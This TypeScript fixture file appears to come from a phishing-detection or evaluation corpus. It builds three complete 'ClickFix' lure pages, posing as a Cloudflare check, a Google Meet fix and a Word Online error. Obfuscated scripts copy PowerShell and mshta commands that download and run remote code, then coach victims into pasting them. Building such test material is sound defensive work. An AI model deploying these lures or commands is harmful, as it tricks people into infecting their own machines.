import { htmlRoute, type Entry } from '../entry.js';
import { b64, doc, jsRoute } from '../parts/v-kit.js';

// Fake CAPTCHA / "fix it" pages that make the visitor paste a command (dev split).

// 1. Cloudflare-Turnstile-styled check, then the Win+R instructions; command copied on click.
const h1 = 'verify-human.cdn-checkpoint.com';
const cmd1 = `powershell -w hidden -nop -c "$u='https://cdn-checkpoint.com/s/cf.ps1';iex (iwr $u -UseBasicParsing).Content" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 7741''`;
const turnstile: Entry = {
  id: 'v-clickfix-turnstile-runbox',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: `https://${h1}/cdn-cgi/challenge-platform/verify?ray=8f2c1a9b7e`,
  routes: {
    [`${h1}/cdn-cgi/challenge-platform/verify`]: htmlRoute(
      doc({
        title: 'Just a moment...',
        css: `body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial;background:#fff;color:#313131}.m{max-width:680px;margin:12vh auto;padding:0 20px}h1{font-size:2.4rem;font-weight:500}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;padding:0 14px;cursor:pointer}.cb span{width:24px;height:24px;border:2px solid #666;border-radius:3px;display:inline-block}
#st{display:none;border:1px solid #e0e0e0;padding:20px;margin-top:16px;background:#fff;box-shadow:0 2px 8px rgba(0,0,0,.1)}#st ol{line-height:2}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}.ft{font-size:12px;color:#666;margin-top:60px;border-top:1px solid #eee;padding-top:12px}`,
        body: `<div class="m"><h1>${h1}</h1><h2 style="font-weight:400;font-size:1.4rem">Verify you are human by completing the action below.</h2>
<div class="cb" id="cb"><span></span> Verify you are human <small style="margin-left:auto;font-size:10px;color:#888">CLOUDFLARE<br>Privacy · Terms</small></div>
<div id="st"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">Perform the steps above to finish verification.</p></div>
<p>${h1} needs to review the security of your connection before proceeding.</p><div class="ft">Ray ID: <code>8f2c1a9b7e41d2a3</code> &nbsp; Performance &amp; security by Cloudflare</div></div>
<script src="/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1"></script>`,
      }),
    ),
    [`${h1}/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1`]: jsRoute(`(function(){var p=atob('${b64(cmd1)}');
function cp(t){if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(t).catch(function(){fb(t)})}else fb(t)}
function fb(t){var a=document.createElement('textarea');a.value=t;a.style.position='fixed';a.style.opacity='0';document.body.appendChild(a);a.select();document.execCommand('copy');a.remove()}
document.getElementById('cb').addEventListener('click',function(){cp(p);this.querySelector('span').style.borderColor='#f38020';document.getElementById('st').style.display='block';
fetch('/cdn-cgi/log?e=copied',{method:'POST'}).catch(function(){})});})();`),
    [`${h1}/cdn-cgi/log`]: { status: 204, headers: {}, body: '' },
  },
};

// 2. Fake Google Meet "microphone blocked" fix: copies a PowerShell one-liner.
const h2 = 'meet.google.com-join-xqp-ruhn-kze.us';
const meet: Entry = {
  id: 'v-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'fake-fix',
  url: `https://${h2}/xqp-ruhn-kze`,
  body: doc({
    title: 'Meet - xqp-ruhn-kze',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.v{width:740px;height:416px;margin:60px auto 20px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.d{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none}.d>div{width:460px;margin:18vh auto;background:#fff;color:#202124;border-radius:8px;padding:24px}.b{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px;font-size:14px;cursor:pointer}
code{background:#f1f3f4;padding:2px 6px;border-radius:3px}`,
    body: `<div class="v">Camera is starting…</div><div style="text-align:center"><h2 style="font-weight:400">Ready to join?</h2><p>Quarterly Business Review - Northwind / Contoso</p><button class="b" id="j">Join now</button></div>
<div class="d" id="d"><div><h3>&#127908; Microphone access is blocked</h3><p style="font-size:14px">Meet couldn't access your microphone due to a browser permission problem (error <code>0x80070422</code>). To fix it:</p>
<ol style="font-size:14px;line-height:1.8"><li>Click <b>Copy fix</b></li><li>Press <b>Windows + X</b>, then select <b>Terminal (Admin)</b> or <b>Windows PowerShell</b></li><li>Right-click to paste and press <b>Enter</b></li><li>Reload this page</li></ol>
<button class="b" id="fx">Copy fix</button> <span id="ok" style="font-size:13px;color:#188038"></span></div></div>
<script>
var f=['po','wer','shell',' -ep bypass -w 1 -c ','"','irm ','hxxps://meet-driverfix.com/audio/fix.txt'.replace('hxxps','https'),' | iex','"'].join('');
setTimeout(function(){document.getElementById('d').style.display='block'},1800);document.getElementById('j').onclick=function(){document.getElementById('d').style.display='block'};
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(f).then(function(){document.getElementById('ok').textContent='Copied! Now paste it into PowerShell.'})};
</script>`,
  }),
};

// 3. Word Online "extension not installed" error with a "How to fix" that copies an mshta command.
const h3 = 'office-docview-0x1f.pages.dev';
const word: Entry = {
  id: 'v-clickfix-word-extension-missing',
  label: 'clickfix',
  kind: 'fake-fix',
  url: `https://${h3}/Contract_Amendment_2026.docx`,
  routes: {
    [`${h3}/Contract_Amendment_2026.docx`]: htmlRoute(
      doc({
        title: 'Contract_Amendment_2026.docx - Word',
        css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f3f2f1}.rb{background:#2b579a;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:12px}.pg{width:680px;height:860px;margin:20px auto;background:#fff;filter:blur(3px);padding:60px;color:#333}
.e{position:fixed;top:90px;left:50%;margin-left:-260px;width:520px;background:#fff;border:1px solid #c8c6c4;box-shadow:0 6px 24px rgba(0,0,0,.25);padding:24px}.e h3{color:#a4262c;margin-top:0}.hw{display:none;background:#f3f2f1;padding:12px;font-size:13px;margin-top:12px}
button{background:#2b579a;color:#fff;border:0;padding:8px 18px;cursor:pointer}`,
        body: `<div class="rb"><b>Word</b> <span>Contract_Amendment_2026.docx</span><span style="margin-left:auto;font-size:12px">Saved to OneDrive</span></div>
<div class="pg"><h2>AMENDMENT No. 2 TO MASTER SERVICES AGREEMENT</h2><p>This Amendment is entered into as of the date last signed below by and between the parties...</p><p>1. Payment terms. Section 4.2 is deleted in its entirety and replaced with the following...</p></div>
<div class="e"><h3>&#9888; "Word Online" extension is not installed</h3><p style="font-size:14px">To open this document in your browser, the Word Online extension must be installed. The document cannot be displayed offline.</p>
<button id="h">How to fix</button><div class="hw" id="hw"><ol><li>Click the <b>Copy</b> button below</li><li>Right-click the Windows Start button and choose <b>Windows PowerShell (Admin)</b></li><li>Right-click inside the window to paste, then press Enter</li><li>Refresh this page</li></ol><button id="c">Copy</button> <span id="m"></span></div></div>
<script src="/assets/wd.js"></script>`,
      }),
    ),
    [`${h3}/assets/wd.js`]: jsRoute(`var _c=['bXNodGEu','ZXhlIGh0dHBzOi8vb2ZmaWNlLWV4dGVuc2lvbi11cGRhdGUuY29tL3dvcmQvc2V0dXAuaHRh'];
document.getElementById('h').onclick=function(){document.getElementById('hw').style.display='block'};
document.getElementById('c').onclick=function(){var t=atob(_c[0]+_c[1]);var ta=document.createElement('textarea');ta.value=t;document.body.appendChild(ta);ta.select();document.execCommand('copy');ta.remove();document.getElementById('m').textContent='Copied'};`),
  },
};

export const entries: Entry[] = [turnstile, meet, word];
